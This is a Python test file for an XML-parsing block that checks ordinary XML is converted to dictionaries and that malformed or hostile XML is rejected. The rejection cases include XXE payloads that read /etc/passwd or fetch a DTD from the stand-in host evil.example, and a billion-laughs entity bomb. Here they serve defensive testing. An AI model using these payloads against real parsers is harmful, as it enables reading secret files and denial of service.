"""XML as objects, and XML that means harm."""

import time

import pytest

from blocks.library.xml_text import MAX_CHARACTERS
from tests.blocks.calls import called, emitted, failure

READ = [
    pytest.param("<a/>", {"a": ""}, id="empty"),
    pytest.param("<a> x </a>", {"a": "x"}, id="blanks-around-text"),
    pytest.param("<a><b>1</b><c/><b>2</b></a>", {"a": {"b": ["1", "2"], "c": ""}},
                 id="repeated-tag"),
    pytest.param("<a><b/><b/><b/></a>", {"a": {"b": ["", "", ""]}}, id="three"),
    pytest.param("<a x='1' y='2'/>", {"a": {"@x": "1", "@y": "2"}}, id="attributes"),
    pytest.param("<a x='1'>t</a>", {"a": {"@x": "1", "#text": "t"}}, id="and-text"),
    pytest.param("<a>t<b/>u</a>", {"a": {"#text": "tu", "b": ""}}, id="mixed"),
    pytest.param("<a><![CDATA[<b>]]>&lt;&#65;</a>", {"a": "<b><A"}, id="cdata"),
    pytest.param("<!-- c --><a><?p i?><!-- c -->x</a>", {"a": "x"}, id="comments"),
    pytest.param("<s:a xmlns:s='urn:s'><s:b>1</s:b></s:a>",
                 {"s:a": {"@xmlns:s": "urn:s", "s:b": "1"}}, id="prefixes-stay"),
    pytest.param("<?xml version='1.0' encoding='ISO-8859-1'?><a>ü北</a>", {"a": "ü北"},
                 id="text-is-decoded-already"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "wanted"), READ)
async def test_xml_is_read(text, wanted):
    assert await emitted("XMLParser", {"input_xml": text}) == [("parsed_xml", wanted)]


ENTITIES = "".join(f"<!ENTITY e{n} '&e{n - 1};&e{n - 1};'>" for n in range(1, 30))

REFUSED = [
    pytest.param("", "malformed", id="nothing"),
    pytest.param("tea", "malformed", id="no-xml"),
    pytest.param("<a/><b/>", "malformed", id="two-roots"),
    pytest.param("<a b=1/>", "malformed", id="no-quotes"),
    pytest.param("<a>&nbsp;</a>", "malformed", id="unknown-entity"),
    pytest.param("<a>\x00</a>", "malformed", id="nul"),
    pytest.param("<a>\ud800</a>", "surrogate", id="half-a-character"),
    pytest.param("<a><b>", "Unclosed tag <b>", id="left-open"),
    pytest.param("<a><b></a></b>", "Unclosed tag <b>", id="crossed"),
    pytest.param("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
                 "DTD", id="file-entity"),
    pytest.param("<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/d'>%p;]><r/>",
                 "DTD", id="parameter-entity"),
    pytest.param("<!DOCTYPE r SYSTEM 'http://evil.example/d'><r/>", "DTD",
                 id="external-dtd"),
    pytest.param(f"<!DOCTYPE r [<!ENTITY e0 'ha'>{ENTITIES}]><r>&e29;</r>", "DTD",
                 id="billion-laughs"),
    pytest.param("<a>" * 101 + "</a>" * 101, "more than 100 levels", id="deep"),
    pytest.param("<a>" + "<b/>" * 200_000 + "</a>", "200,000 elements", id="many"),
    pytest.param("x" * (MAX_CHARACTERS + 1), "limit 10,485,760", id="large"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "part"), REFUSED)
async def test_xml_that_cannot_be_read_is_refused(text, part):
    began = time.process_time()
    assert part in await failure("XMLParser", {"input_xml": text})
    assert time.process_time() - began < 2


async def test_what_is_refused_tells_nothing_of_files():
    text = "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>"
    result = await called("XMLParser", {"input_xml": text})
    assert "root:" not in str(result.error)
    assert result.outputs == []
